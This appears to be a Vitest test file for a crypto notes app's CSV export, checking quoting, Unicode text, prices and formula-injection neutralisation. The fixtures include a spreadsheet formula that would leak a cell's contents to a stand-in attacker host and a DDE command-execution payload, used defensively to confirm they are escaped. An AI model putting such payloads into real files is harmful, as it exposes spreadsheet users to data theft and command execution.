import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, type CsvColumn, notesToCsv } from '../../../utils/notes/csv';
import type { PriceNow } from '../../../utils/notes/view';
import { NOTES, WORDS } from './fixtures';

const HEADERS = Object.fromEntries(CSV_COLUMNS.map((c) => [c, c])) as Record<CsvColumn, string>;
const PRICES = new Map<string, PriceNow>([
  [
    'cg:bittensor',
    {
      usd: 397.364,
      source: 'coingecko',
      fetchedAt: Date.UTC(2026, 11, 6),
      asOf: Date.UTC(2025, 1, 9),
      stale: true,
    },
  ],
]);

/** The CSV as a spreadsheet reads it: rows of cells, RFC 4180 quoting undone by Papa Parse's reader. */
function cells(csv: string): Array<Record<CsvColumn, string>> {
  const parsed = Papa.parse<Record<CsvColumn, string>>(csv.replace(/^\uFEFF/, ''), {
    header: true,
    newline: '\r\n',
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('notes CSV export', () => {
  const csv = notesToCsv(NOTES, PRICES, WORDS, HEADERS);

  it('starts with a UTF-8 byte-order mark and parts records with CRLF', () => {
    expect(csv.startsWith('\uFEFFsaved,edited,asset,')).toBe(true);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${CSV_COLUMNS.join(',')}`);
    // Line breaks inside a field stay bare LF inside its quotes; records end with CRLF.
    expect(csv).toContain('"子网排放还在增长，注意 ""dTAO"" 之后的解锁。\n第二行, with a comma"');
  });

  it('gives one row per note with Chinese, quotes, commas and line breaks intact', () => {
    const rows = cells(csv);
    expect(rows).toHaveLength(3);
    const [tao] = rows;
    expect(tao).toMatchObject({
      asset: 'Bittensor',
      symbol: 'TAO',
      text: '子网排放还在增长，注意 "dTAO" 之后的解锁。\n第二行, with a comma',
      tags: 'L1; AI; 观察',
      quote: 'Bitcoin holds while $TAO runs.\n比特币横盘，"TAO" 领涨, 不是吗？',
      url: 'https://x.com/someone/status/1?ref=a,b',
      priceThen: '361.24',
      priceNow: '397.364',
      priceNowStale: 'out of date',
      // When the price was true at its source, not when it was fetched.
      priceNowAt: '2025-02-09T00:00:00.000Z',
      changePct: '10',
      saved: '2026-12-01T09:30:00.000Z',
      uid: NOTES[0]?.uid,
    });
    expect(tao?.checklistThen).toBe(
      '2/5 · revenue: pass · sink: pass · supply: unknown · liquidity: fail · governance: unknown',
    );
    expect(rows[1]?.claimsThen).toBe('No VC: agrees; Airdrop (28%): agrees');
    expect(rows[2]).toMatchObject({ asset: 'No asset', priceThen: '', priceNow: '', changePct: '' });
  });

  it('neutralises every text cell a spreadsheet would run as a formula', () => {
    const rows = cells(csv);
    expect(rows[1]?.quote).toBe(
      `'=HYPERLINK("https://evil.example/?leak="&A1,"click me") no VC, 28% airdrop`,
    );
    expect(rows[2]?.text).toBe(`'-1+1 and @SUM(A1) and +cmd|"/C calc"!A0`);
    // In the file itself the cell is quoted, and so starts with '"' then the apostrophe.
    expect(csv).toContain(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click me"") no VC, 28% airdrop"`,
    );
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tTAB', "'\tTAB"],
    ['\r=1', "'\r=1"],
    ['  =1+1', "'  =1+1"],
    ['\u00a0@x', "'\u00a0@x"],
    ['a=1+1', 'a=1+1'],
    ['比特币 =1', '比特币 =1'],
  ])('a cell %j is written as %j', (text, expected) => {
    const note = { ...NOTES[2], text } as (typeof NOTES)[number];
    expect(cells(notesToCsv([note], new Map(), WORDS, HEADERS))[0]?.text).toBe(expected);
  });

  it('leaves numbers as numbers, negative ones too (they cannot run, and must still sort)', () => {
    const falling = new Map<string, PriceNow>([
      ['cg:bittensor', { usd: 180.62, source: 'coingecko', fetchedAt: 0, asOf: null, stale: false }],
    ]);
    const row = cells(notesToCsv([NOTES[0] as (typeof NOTES)[number]], falling, WORDS, HEADERS))[0];
    expect(row?.changePct).toBe('-50');
    expect(row?.priceNowStale).toBe('');
  });
});
